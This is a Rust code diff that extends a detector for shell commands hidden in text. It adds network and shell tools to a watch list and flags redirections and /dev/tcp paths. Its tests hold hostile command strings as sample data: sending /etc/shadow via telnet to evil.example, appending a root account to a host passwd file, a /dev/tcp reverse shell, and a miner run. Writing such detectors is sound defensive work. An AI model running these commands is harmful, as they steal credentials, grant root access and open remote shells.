@@ -75,6 +75,15 @@ const PROGRAMS: &[&[u8]] = &[
     b"head",
     b"tail",
     b"less",
+    b"telnet",
+    b"awk",
+    b"gawk",
+    b"mkfifo",
+    b"echo",
+    b"printf",
+    b"xargs",
+    b"env",
+    b"openssl",
 ];
 
 /// How many pieces of a text are looked at.
@@ -156,7 +165,7 @@ fn runs(inner: &[u8]) -> bool {
 /// Where the first piece starts that is a command with a path or an option.
 fn first_command(text: &[u8]) -> Option<usize> {
     let mut at = 0;
-    text.split(|b| matches!(b, b';' | b'|' | b'&')).take(PIECES).find_map(|piece| {
+    text.split(|b| matches!(b, b';' | b'|' | b'&' | b'\n')).take(PIECES).find_map(|piece| {
         let start = at;
         at += piece.len() + 1;
         let quotes = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'\\' | b'(');
@@ -167,10 +176,19 @@ fn first_command(text: &[u8]) -> Option<usize> {
         let name = &first[memchr::memrchr(b'/', first).map_or(0, |slash| slash + 1)..];
         let acts = |word: &[u8]| match word {
             [b'-', letter, ..] => letter.is_ascii_alphabetic() || *letter == b'-',
-            [b'/', ..] => true,
-            _ => memchr::memmem::find(word, b"://").is_some(),
+            // Also what it reads and writes: `< /x`, `>> /x`, `3<>/dev/tcp/h/1`.
+            [b'/' | b'<' | b'>', ..] => true,
+            _ => [b"://".as_slice(), b"/dev/tcp/"]
+                .iter()
+                .any(|sign| memchr::memmem::find(word, sign).is_some()),
         };
-        (PROGRAMS.contains(&name) && words.take(16).any(acts)).then_some(start + lead)
+        // `/tmp/x -o evil.example`
+        let runs_a_file = first[0] == b'/' && first.len() > 3;
+        let option =
+            |word: &[u8]| matches!(word, [b'-', letter, ..] if letter.is_ascii_alphabetic());
+        let runs = PROGRAMS.contains(&name) && words.clone().take(16).any(acts)
+            || runs_a_file && words.take(16).any(option);
+        runs.then_some(start + lead)
     })
 }
 
@@ -189,6 +207,11 @@ mod tests {
             ("x; curl http://evil/p.sh | sh; nsenter -t 1 -m sh", vec!["x"]),
             ("nsenter -t 1 -m -- sh -c id", vec![]),
             ("cat /host/etc/shadow", vec![]),
+            ("telnet evil.example 443 </etc/shadow", vec![]),
+            ("echo r::0:0::/:/bin/sh >> /host/etc/passwd", vec![]),
+            ("exec 3<>/dev/tcp/6.6.6.6/443; sh <&3", vec![]),
+            ("/tmp/Miner9x -o evil.example", vec![]),
+            ("x\nnsenter -t 1 -m sh\n", vec!["x"]),
         ] {
             let mut parts = Vec::new();
             assert!(around(text.as_bytes(), |part| parts.push(&text[part])), "{text}");
@@ -207,6 +230,8 @@ mod tests {
             "correct horse battery staple",
             "Server=db;Uid=sa;Pwd=hunter2;curl=1",
             "find me a key",
+            "/Vq7xK2mN4p8R5t9 and more",
+            "echo of a distant bell",
             "x & y - z",
         ] {
             assert!(!around(text.as_bytes(), |_| ()), "{text}");
